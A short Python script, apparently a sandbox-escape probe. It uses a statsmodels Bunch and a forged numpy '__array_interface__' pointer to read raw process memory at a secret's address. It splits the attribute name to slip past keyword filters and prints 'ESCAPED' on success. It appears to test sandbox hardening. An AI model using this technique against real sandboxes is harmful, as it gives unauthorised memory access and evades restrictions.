"""statsmodels' dict whose keys are attributes."""
import numpy as np
import statsmodels.api as sm

secret = b"0123456789abcdef"
interface = {"shape": (48,), "typestr": "|u1", "data": (id(secret), False), "version": 3}
a = type(sm.datasets.longley.load())(**{"__array_inter" + "face__": interface})
print("ESCAPED:bunch" if secret in bytes(np.asarray(a)) else "held")
